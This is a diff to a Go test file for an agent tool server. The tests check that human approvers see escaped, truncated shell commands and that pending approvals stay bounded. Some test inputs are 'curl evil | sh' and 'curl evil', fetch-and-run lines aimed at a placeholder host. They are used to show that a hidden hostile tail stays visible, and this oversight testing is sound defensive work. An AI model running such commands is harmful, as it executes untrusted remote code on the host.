@@ -13,6 +13,8 @@ import (
 	"testing"
 	"time"
 
+	"github.com/toold/toold/internal/approval"
+
 	"github.com/toold/toold/client"
 	"github.com/toold/toold/internal/testrig"
 	"github.com/toold/toold/internal/tool/run"
@@ -27,7 +29,7 @@ func TestWhatApproversSee(t *testing.T) {
 	})), Env: map[string]string{"B": "secret", "A": "x"}})
 	text, _ := a.Metadata["command"].(string)
 	if strings.ContainsAny(text, "\x1b\u202e") || !strings.Contains(text, `\u{202e}`) || !strings.HasSuffix(text, "curl evil | sh") ||
-		!strings.Contains(text, "bytes left out") || a.Metadata["truncated"] != true || len(text) > 2*maxShownText {
+		!strings.Contains(text, "bytes left out") || a.Metadata["truncated"] != true || len(text) > 2*approval.MaxShownText {
 		t.Errorf("%d bytes of the command, %v", len(text), a.Metadata["truncated"])
 	}
 	if d := a.Metadata["description"]; d != `harm\u{202e}less` || a.Metadata["workdir"] != "/workspace/x" {
@@ -43,7 +45,7 @@ func TestWhatApproversSee(t *testing.T) {
 	}
 	h.answer(a, reject)
 	long, b := h.waiting(s.ID, strings.Repeat("x", 10000))
-	if b.Metadata["truncated"] != true || len(b.Requests[0].Pattern) > maxShownPattern+100 {
+	if b.Metadata["truncated"] != true || len(b.Requests[0].Pattern) > approval.MaxShownPattern+100 {
 		t.Errorf("pattern of %d bytes", len(b.Requests[0].Pattern))
 	}
 	h.answer(b, reject)
@@ -102,11 +104,11 @@ func TestNothingIsSavedUnseen(t *testing.T) {
 	h, _ := asking(t)
 	s := h.create(alice, client.SessionCreate{})
 	var command strings.Builder
-	for i := range maxShownRequests {
+	for i := range approval.MaxShownRequests {
 		fmt.Fprintf(&command, "ls %d; ", i)
 	}
 	c, a := h.waiting(s.ID, command.String()+"curl evil")
-	if len(a.Requests) != maxShownRequests || a.Metadata["requests_left_out"] != 1 {
+	if len(a.Requests) != approval.MaxShownRequests || a.Metadata["requests_left_out"] != 1 {
 		t.Fatalf("%d requests, left out %v", len(a.Requests), a.Metadata["requests_left_out"])
 	}
 	if _, err := h.m.Answer(t.Context(), carol, a.ID, always); codeOfErr(err) != client.CodeInvalidRequest || !strings.Contains(err.Error(), "100 of them") {
@@ -189,7 +191,7 @@ func TestPendingIsBounded(t *testing.T) {
 	h, _ := asking(t)
 	s := h.create(alice, client.SessionCreate{})
 	var last *client.Approval
-	for i := range maxPendingSession {
+	for i := range approval.MaxPendingSession {
 		_, last = h.waiting(s.ID, fmt.Sprintf("ls %d", i))
 	}
 	c := h.call(s.ID, bashCall("ls more"))
@@ -200,7 +202,7 @@ func TestPendingIsBounded(t *testing.T) {
 	testrig.Eventually(t, "nothing waits", func() bool { return len(h.pending()) == 0 })
 	// Large inputs take more than their number.
 	large := strings.Repeat("x", 10<<20)
-	for i := range maxPendingBytes / len(large) {
+	for i := range approval.MaxPendingBytes / len(large) {
 		h.waiting(s.ID, fmt.Sprintf("ls %d %s", i, large))
 	}
 	if c := h.call(s.ID, bashCall("ls more "+large)); c.Error == nil || c.Error.Code != client.CodeOverloaded || !strings.Contains(c.Error.Message, "bytes") {
@@ -248,8 +250,8 @@ func TestApprovalProgramsAtOnce(t *testing.T) {
 		t.Fatal(err)
 	}
 	h.reload(func(set *Settings) { set.Approvals.Command = []string{file} })
-	for range programsAtOnce {
-		h.m.approvals.programs <- struct{}{}
+	for range approval.ProgramsAtOnce {
+		h.m.approvals.Programs <- struct{}{}
 	}
 	gone, a := h.waiting(s.ID, "ls gone")
 	h.answer(a, reject)
@@ -258,12 +260,12 @@ func TestApprovalProgramsAtOnce(t *testing.T) {
 	if n := len(h.pending()); n != 1 {
 		t.Errorf("%d wait for a program that may not run yet", n)
 	}
-	<-h.m.approvals.programs
+	<-h.m.approvals.Programs
 	if done := h.finished(c.ID); done.Output != "done\n" {
 		t.Errorf("%+v", done)
 	}
-	for range programsAtOnce - 1 {
-		<-h.m.approvals.programs
+	for range approval.ProgramsAtOnce - 1 {
+		<-h.m.approvals.Programs
 	}
 }
 
